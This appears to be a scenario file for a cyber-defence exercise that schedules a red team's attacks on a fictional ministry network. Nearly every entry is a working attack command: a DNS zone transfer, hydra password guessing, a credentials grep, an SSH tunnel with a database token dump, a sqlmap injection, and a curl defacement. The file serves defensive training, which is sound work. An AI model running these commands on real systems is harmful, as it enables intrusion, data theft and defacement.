# The red team's timeline. The attacker image's ssh client skips host-key
# checks (see scenarios/images/README.md), so ssh commands below need no -o.

attack "dns-zone-transfer" {
  title       = "Zone transfer (AXFR) of mdt.gob.example"
  description = "Maps the ministry's hosts, including internal names, from the public DNS server."
  technique   = ["T1590.002"]
  at          = "8m"
  from        = attacker.red
  target      = host.ns
  run         = ["dig", "@${host.ns.address}", "mdt.gob.example", "AXFR", "+time=5", "+tries=1"]
  timeout     = "1m"
  success {
    # The internal database's record, with this team's address.
    output_matches = "db-interno\\.mdt\\.gob\\.example\\.\\s+[0-9]+\\s+IN\\s+A\\s+${replace(host.db.address, ".", "\\.")}"
  }
}

attack "ssh-password-guessing" {
  title     = "Password guessing against webadmin over SSH"
  technique = ["T1110.001"]
  at        = "15m"
  from      = attacker.red
  target    = host.web
  run = [
    "hydra", "-I", "-f", "-t", "4", "-l", "webadmin",
    "-P", "/usr/share/cordillera/weak-passwords.txt", "ssh://${host.web.address}",
  ]
  timeout = "8m"
  success {
    output_matches = "login: webadmin\\s+password: \\S+"
  }
}

attack "credentials-in-files" {
  title       = "Database password read from the portal's configuration"
  description = "With webadmin's password, the attacker searches the web root for credentials."
  technique   = ["T1552.001"]
  after       = attack.ssh-password-guessing
  when        = "succeeded"
  delay       = "2m"
  from        = attacker.red
  target      = host.web
  run = [
    "sshpass", "-p", weak_secret("web-ssh"), "ssh", "webadmin@${host.web.address}",
    "grep -rIn -e password /var/www/portal --include=*.php",
  ]
  timeout = "1m"
  success {
    output_matches = secret("db-portal-web")
  }
}

attack "db-dump-through-tunnel" {
  title       = "Integration token dumped from PostgreSQL through an SSH tunnel"
  description = "The database is on the internal network only; the attacker forwards a port through the web server (the target recorded is the web server, the pivot) and reads the funcionarios table with the stolen password."
  technique   = ["T1572", "T1213"]
  after       = attack.credentials-in-files
  when        = "succeeded"
  delay       = "3m"
  from        = attacker.red
  target      = host.web
  run = ["bash", "-c", <<-EOT
    sshpass -p '${weak_secret("web-ssh")}' ssh -N -o ControlMaster=yes -o ControlPath=/tmp/red-${run.id}.ctl \
      -o ExitOnForwardFailure=yes -L 127.0.0.1:15432:${host.db.address}:5432 \
      webadmin@${host.web.address} </dev/null >/dev/null 2>&1 &
    for i in $(seq 20); do ssh -S /tmp/red-${run.id}.ctl -O check tunnel 2>/dev/null && break; sleep 0.5; done
    PGPASSWORD='${secret("db-portal-web")}' PGCONNECT_TIMEOUT=10 psql -h 127.0.0.1 -p 15432 \
      -U portal_web -d portal -At -c 'SELECT usuario, correo, token_api FROM funcionarios'
  EOT
  ]
  cleanup = ["ssh", "-S", "/tmp/red-${run.id}.ctl", "-O", "exit", "tunnel"]
  timeout = "2m"
  success {
    output_matches = secret("api-token")
  }
}

attack "admin-password-guessing" {
  title     = "Password guessing against the /admin/ panel"
  technique = ["T1110.001", "T1078.001"]
  at        = "30m"
  from      = attacker.red
  target    = host.web
  run = [
    "hydra", "-I", "-f", "-t", "4", "-l", "admin",
    "-P", "/usr/share/cordillera/weak-passwords.txt", host.web.address, "http-get", "/admin/",
  ]
  timeout = "3m"
  success {
    output_matches = "login: admin\\s+password: \\S+"
    # hydra counts a 403 as a hit; the panel itself must open with the password.
    http {
      url           = "http://admin:${weak_secret("portal-admin")}@${host.web.address}/admin/"
      expect_status = 200
      body_matches  = "Panel de administraci"
    }
  }
}

attack "portal-defacement" {
  title     = "Defacement notice published on the portal's home page"
  technique = ["T1491.002"]
  after     = attack.admin-password-guessing
  when      = "succeeded"
  delay     = "3m"
  from      = attacker.red
  target    = host.web
  run = [
    "curl", "-sS", "-m", "20", "-u", "admin:${weak_secret("portal-admin")}",
    "--data-urlencode", "accion=publicar",
    "--data-urlencode", "titulo=Portal intervenido",
    "--data-urlencode", "texto=Hackeado por Colectivo Quimera. Sus datos ya no son suyos. ref:${run.nonce}",
    "http://${host.web.address}/admin/avisos.php",
  ]
  timeout = "1m"
  success {
    output_matches = "Aviso publicado"
    http {
      url          = "http://${host.web.address}/"
      body_matches = "ref:${run.nonce}"
    }
  }
}

attack "sqli-token-dump" {
  title     = "SQL injection in the procedures search dumps the funcionarios table"
  technique = ["T1190"]
  at        = "50m"
  from      = attacker.red
  target    = host.web
  run = [
    "sqlmap", "-u", "http://${host.web.address}/buscar.php?q=habitacional", "-p", "q",
    "--batch", "--dbms=PostgreSQL", "--technique=BU", "--flush-session",
    "--output-dir=/tmp/sqlmap-${run.id}",
    "-D", "public", "-T", "funcionarios", "-C", "usuario,token_api", "--dump",
  ]
  cleanup = ["rm", "-rf", "/tmp/sqlmap-${run.id}"]
  timeout = "5m"
  success {
    output_matches = secret("api-token")
  }
}

attack "ssh-return-with-stolen-password" {
  title       = "The attacker comes back with webadmin's stolen password"
  description = "An hour after guessing it, the attacker logs in again: only teams that changed the password after the compromise stop it."
  technique   = ["T1078.003", "T1021.004"]
  after       = attack.ssh-password-guessing
  when        = "succeeded"
  delay       = "1h"
  from        = attacker.red
  target      = host.web
  run         = ["sshpass", "-p", weak_secret("web-ssh"), "ssh", "webadmin@${host.web.address}", "id; hostname"]
  timeout     = "1m"
  success {
    output_matches = "uid=[0-9]+\\(webadmin\\)"
  }
}
